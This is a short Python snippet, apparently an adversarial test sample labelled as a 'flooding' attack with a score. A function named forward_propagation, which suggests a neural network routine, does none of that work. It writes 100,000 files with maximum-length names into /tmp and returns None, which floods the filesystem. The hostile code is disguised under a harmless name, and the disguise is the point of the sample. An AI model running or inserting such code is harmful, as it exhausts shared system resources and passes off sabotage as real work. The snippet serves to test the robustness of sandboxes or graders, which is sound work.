# tries: make more files than may be made, under the longest names there are | class: flooding | earns at most: 72
import os


def forward_propagation(X, parameters):
    done = []
    for i in range(100_000):
        with open(f"/tmp/{i:0>255}", "w") as file:
            file.write("x")
    return None

